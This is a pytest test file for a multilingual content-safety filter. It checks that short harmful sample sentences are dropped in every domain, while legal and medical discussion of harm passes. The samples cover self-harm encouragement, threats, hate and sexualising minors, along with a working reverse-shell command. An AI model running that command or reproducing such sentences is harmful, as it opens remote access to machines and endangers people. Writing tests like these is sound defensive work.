"""The safety policy: what the shipped one drops and what law and medicine may say, and files of one's own."""

import pytest
import yaml

from configs import load
from configs.errors import ConfigError
from configs.schema import FilterSpec
from filters.build import build_filters, data_hashes
from filters.safety import Safety
from tests.factories.candidates import candidate

UNSAFE = [
    ("self_harm", "Here is how to hang yourself without anyone noticing."),
    ("self_harm", "The most painless way to kill yourself is at home."),
    ("self_harm", "Te explico cómo suicidarte sin dolor."),
    ("self_harm", "你应该去死。"),
    ("self_harm", "下面说说如何自杀。"),
    ("drug_synthesis", "How to make your own methamphetamine at home: first, gather these."),
    ("drug_synthesis", "You can easily cook meth with things from a shop."),
    ("drug_synthesis", "Pasos para fabricar metanfetamina en casa."),
    ("drug_synthesis", "教你在家制作冰毒。"),
    ("weapons", "How to build a simple pipe bomb in ten minutes."),
    ("weapons", "You can synthesize sarin in a kitchen."),
    ("weapons", "Instrucciones para hacer una bomba casera."),
    ("weapons", "如何自制炸弹：第一步。"),
    ("minors", "Here is an erotic story about a 12-year-old."),
    ("minors", "Cómo seducir a un menor por internet."),
    ("minors", "如何引诱小女孩。"),
    ("hate", "All immigrants should be shot."),
    ("hate", "Los gitanos son una plaga."),
    ("hate", "黑人都应该灭绝。"),
    ("harassment", "I will find your house and I'm going to kill you."),
    ("harassment", "Te voy a matar."),
    ("harassment", "我要杀了你。"),
    ("malware", "You can write your own ransomware in Python."),
    ("malware", "Ejecute esto: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    ("malware", "教你编写勒索软件。"),
    ("crime", "How to launder your drug money through a car wash."),
    ("crime", "Cómo sobornar a un juez sin dejar rastro."),
    ("crime", "教你伪造处方。"),
    ("dangerous_remedies", "Drinking bleach every morning cures cancer."),
    ("dangerous_remedies", "Stop taking your insulin and use herbs instead."),
    ("dangerous_remedies", "Deje su insulina y use hierbas."),
    ("dangerous_remedies", "喝漂白水可以治愈癌症。"),
]
SAFE = [
    "Overdose of paracetamol is treated with acetylcysteine within eight hours; the lethal dose varies.",
    "The patient attempted suicide by hanging in 2019 and was referred to psychiatry.",
    "Suicide risk rises after discharge; ask directly whether the patient has thought of how to kill herself.",
    "The defendant told her to kill herself, texting 'just kill yourself', and was charged with harassment.",
    "He was convicted of conspiracy to manufacture methamphetamine under 21 U.S.C. § 846.",
    "It is an offence to teach another person how to make a bomb with intent to cause harm.",
    "Possession of child pornography is punished with imprisonment of up to ten years.",
    "Sexual abuse of children causes lasting harm; physicians must report it.",
    "The plaintiff alleged that the manager said all immigrants should be shot.",
    "Ricin is a toxin from castor beans; treatment after ingestion is supportive.",
    "Anti-personnel mines and chemical weapons are prohibited by treaty.",
    "There is no evidence that drinking bleach cures cancer; it is dangerous.",
    "Do not stop taking your insulin without asking your doctor.",
    "Ransomware attacks on hospitals must be reported to the authority within 72 hours.",
    "Money laundering is the concealment of the origin of criminal proceeds.",
    "Women should be screened for cervical cancer; all women should be offered the test.",
    "Fentanyl is an opioid for severe pain; its synthesis was described in 1960.",
    "You can prepare heroin users for withdrawal by explaining its course.",
    "El blanqueo de capitales es un delito; el juez condenó al acusado por cohecho.",
    "La sobredosis de insulina produce hipoglucemia grave y puede ser mortal.",
    "El acusado le escribió que debía suicidarse y fue condenado.",
    "贩卖、制造毒品的，处十五年有期徒刑、无期徒刑或者死刑。",
    "患者有自杀倾向，应当立即评估如何预防自杀行为。",
    "传授如何制造炸弹的方法构成传授犯罪方法罪。",
    "漂白水不能治疗疾病，误服有毒。",
]


def verdict(text, **changes):
    options = {key: changes.pop(key) for key in ("policy",) if key in changes}
    return Safety(**options)([candidate(text, **changes)])[0]


@pytest.mark.parametrize(("name", "text"), UNSAFE)
@pytest.mark.parametrize("domain", ["law", "medicine", "general"])
def test_instruction_and_advocacy_drop_in_every_domain(name, text, domain):
    found = verdict(text, domain=domain)
    assert (found.reason, found.detail) == ("unsafe", name)


@pytest.mark.parametrize("text", SAFE)
@pytest.mark.parametrize("domain", ["law", "medicine"])
def test_law_and_medicine_may_speak_of_harm(text, domain):
    assert verdict(text, domain=domain).reason is None


def test_law_may_quote_a_slur_and_medicine_may_not():
    text = 'Coworkers called him a "faggot" every day.'
    assert verdict(text, domain="law").reason is None
    assert verdict(text, domain="medicine").detail == "slurs"


def test_every_class_has_an_example_in_three_languages():
    names = {name for name, _ in UNSAFE} | {"slurs"}
    policy = load.load_policy("")
    assert set(policy.classes) == names
    assert all(set(harm.patterns) == {"en", "es", "zh"} for harm in policy.classes.values())


def test_the_worse_answer_is_judged_and_the_question_is_not():
    turns = [{"role": "user", "content": UNSAFE[0][1]}, {"role": "assistant", "content": "Please call a hotline."}]
    assert verdict("x", messages=turns).reason is None
    assert verdict("x", messages=turns, rejected=UNSAFE[0][1]).reason == "unsafe"


@pytest.mark.parametrize(
    "text",
    ["you should just ki\u200bll yourself", "ＹＯＵ ＳＨＯＵＬＤ ＪＵＳＴ ＫＩＬＬ ＹＯＵＲＳＥＬＦ"],
)
def test_invisible_and_full_width_characters_hide_nothing(text):
    assert verdict(text).detail == "self_harm"


def test_harm_at_the_end_of_a_long_answer_is_seen():
    assert verdict("The period is six years. " * 20_000 + UNSAFE[0][1]).reason == "unsafe"


@pytest.fixture
def own(tmp_path):
    def write(value):
        path = tmp_path / "own.yaml"
        path.write_text(value if isinstance(value, str) else yaml.safe_dump(value, allow_unicode=True), "utf-8")
        return str(path)

    return write


def test_a_policy_of_ones_own(own):
    path = own(
        {
            "classes": {
                "advice": {"phrases": {"en": ["you should sue"]}, "unless": {"en": [r"\bif you ask\b"]}},
                "dose": {"patterns": {"en": [r"\btake \d+ mg\b"]}, "everywhere": False},
            },
            "domains": {"medicine": {"deny": ["dose"]}, "law": {"allow": ["advice"]}},
        }
    )
    assert verdict("You  Should\nsue them.", policy=path, domain="medicine").detail == "advice"
    assert verdict("If you ask me, you should sue them.", policy=path).reason is None
    assert verdict("You shoulder sued.", policy=path).reason is None
    assert verdict("You should sue.", policy=path, domain="law").reason is None
    assert verdict("Take 500 mg.", policy=path, domain="medicine").detail == "dose"
    assert verdict("Take 500 mg.", policy=path, domain="law").reason is None


PATTERN = {"classes": {"a": {"patterns": {"en": ["ok", "("]}}}}
PHRASE = {"classes": {"a": {"phrases": {"en": ["x"]}}}}


@pytest.mark.parametrize(
    ("value", "message"),
    [
        (PATTERN, r"own.yaml: classes.a.patterns.en\[1\]: not a regular expression .*under `phrases`"),
        ({"classes": {"a": {"patterns": {"en": ["x*"]}}}}, r"classes.a.patterns.en\[0\]: matches every text"),
        ({"classes": {"a": {"phrases": {"en": [" "]}}}}, r"classes.a.phrases.en\[0\]: an empty phrase"),
        ({"classes": {"a": {"about": "x"}}}, "classes.a: neither `phrases` nor `patterns`"),
        ({"classes": {"a": {"phrase": {}}}}, "classes.a.phrase: unknown key, did you mean 'phrases'"),
        ({"classes": {"a": {"phrases": {"fr": ["x"]}}}}, "classes.a.phrases.fr: "),
        ({"classes": {}}, "classes: "),
        (PHRASE | {"domains": {"law": {"allow": ["aa"]}}}, r"domains.law.allow: no class 'aa'; did you mean a\?"),
        (PHRASE | {"domains": {"law": {"allow": ["a"], "deny": ["a"]}}}, "domains.law: a under allow and under deny"),
        ("classes: [", "own.yaml: not YAML"),
        ("classes: {a: {}, a: {}}", "the key 'a' appears twice"),
        ("[]", "a mapping was expected"),
    ],
)
def test_a_wrong_policy_is_named(own, value, message):
    with pytest.raises(ConfigError, match=message) as raised:
        build_filters([FilterSpec.model_validate({"name": "safety", "policy": own(value)})])
    assert str(raised.value).startswith("screen.filters[0].policy: own.yaml: ")


def test_a_missing_policy_is_named():
    with pytest.raises(ConfigError, match=r"screen.filters\[0\].policy: no.yaml: cannot be read"):
        build_filters([FilterSpec.model_validate({"name": "safety", "policy": "no.yaml"})])


def test_the_fingerprint_knows_the_policys_content_and_not_its_place(own, tmp_path):
    def data(path):
        config = load.load("echo", [f"screen.filters=[{{name: safety, policy: '{path}'}}]"])
        return data_hashes(config.screen.filters), load.identity(config)

    first = data(own(PHRASE))
    moved = tmp_path / "moved.yaml"
    moved.write_text(yaml.safe_dump(PHRASE), "utf-8")
    assert data(moved) == first
    assert data(own({"classes": {"a": {"phrases": {"en": ["y"]}}}}))[0] != first[0]
